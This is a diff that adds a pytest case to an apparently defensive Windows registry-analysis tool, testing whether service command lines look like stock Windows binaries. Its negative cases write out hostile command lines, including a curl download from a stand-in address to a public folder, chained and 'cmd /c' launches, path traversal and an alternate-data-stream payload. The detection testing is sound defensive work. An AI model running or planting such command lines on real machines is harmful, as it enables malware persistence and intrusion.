@@ -120,6 +120,28 @@ def test_no_interpreter_is_stock() -> None:
         assert not looks_stock(f"C:\\Windows\\System32\\{name} x")
 
 
+@pytest.mark.parametrize(
+    ("command", "stock"),
+    [
+        ("%SystemRoot%\\system32\\svchost.exe -k netsvcs", True),
+        ("\\SystemRoot\\System32\\drivers\\a.sys", True),
+        ("system32\\drivers\\a.sys", True),
+        ("\\??\\C:\\Windows\\System32\\drivers\\a.sys", True),
+        ("C:/Windows/System32/spoolsv.exe", True),
+        ("C:\\Windows\\System32\\..\\..\\Users\\Public\\evil.exe", False),
+        ("C:\\Windows\\System32\\..\\System32\\spoolsv.exe", False),
+        ("C:\\Windows\\System32\\spoolsv.exe & C:\\evil.exe", False),
+        ("C:\\Windows\\System32\\drivers\\hosts:evil.exe", False),
+        ("C:\\Windows\\System32\\curl.exe http://192.0.2.7/x -o C:\\Users\\Public\\a.exe", False),
+        ("C:\\Windows\\System32\\cmd /c C:\\a.exe", False),
+        ("cmd.exe/c a.exe", False),
+        ("C:\\Windows\\System32\\spool\\drivers\\color\\evil.exe", False),
+    ],
+)
+def test_what_looks_like_windows_own(command: str, stock: bool) -> None:
+    assert looks_stock(command) is stock
+
+
 @pytest.mark.samples
 def test_a_real_system(samples: Path) -> None:
     facts, problems = run(ARTIFACT, Hive.open((samples / "hives" / "SYSTEM_B").read_bytes()), SYSTEM)
